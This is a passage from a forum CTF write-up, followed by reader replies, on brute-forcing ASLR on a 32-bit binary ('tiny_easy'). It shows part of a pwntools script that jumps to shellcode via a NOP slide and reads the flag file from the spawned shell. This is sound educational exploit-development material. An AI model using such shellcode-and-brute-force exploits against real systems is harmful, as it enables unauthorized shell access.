            print "started_running address {}".format(hex(struct.unpack("I",jump_address)[0]))# Send command shell of the process

            pro.sendline("echo we_made_it!")

            # Recv the result of the command execution

            data = pro.recvline()

            if data:

                print "received data!"

                print data


        except (EOFError, pwnlib.exception.PwnlibException) as e:

            print e

This code attempts to run the tiny_easy binary and jump to our shellcode which opens a shell. If we succeed then we will be able to send the command

“echo we_made_it” and see it’s output

Lets try it outIt worked!

It seems that our nop slide did it’s job successfully, now let’s check it out on the CTF server itself.

Notice that we need to change the command we wish to execute from

“echo we_made_it” to “cat /home/tiny_easy/flag” In order to get the flag.

We can upload our script to the server’s tmp directory easily using the “scp” command like this:

scp -P 2222 ./pwn_tiny.py [email protected]:/tmp/pwn_tiny.py

And there is our flag :slight_smile:


In this article, we discussed exploit development by using a CTF example,
we learned about how inputs are received by the program from argv and argc.
Finally, saw how ASLR in 32-bit systems is vulnerable due to small randomization ranges and how to utilize this flaw to perform an attack that is statistically very plausible.

I hope you all enjoyed my first post and i’ll see you all next time!


Bypassing ASLR Protection using Brute Force



Awesome writeup, and welcome to the community! Looking forward to many more of these.


Good post, glad I invited you here <3


Nice writeup. It made me realize that I miss the field of binary exploitation.


I’d like to thank @badcor for pointing out my mistake when I wrote that if we disassemble
jmp esp
we get ff e3 , that’s actually jmp ebx
For jmp esp we really get ff e4

Sorry if anybody got confused :sweat_smile:


This is great! Thanks for writing it!1 Like

i read the whole thing & really didnt understand whats going on, but this looks cool .


Thank you for your writeup! Inspired me :fire:


awesome each thing is clear for me in this writeup

1 Like

Thistopic was automaticallyclosed after 121 days. Newreplies are no longer allowed.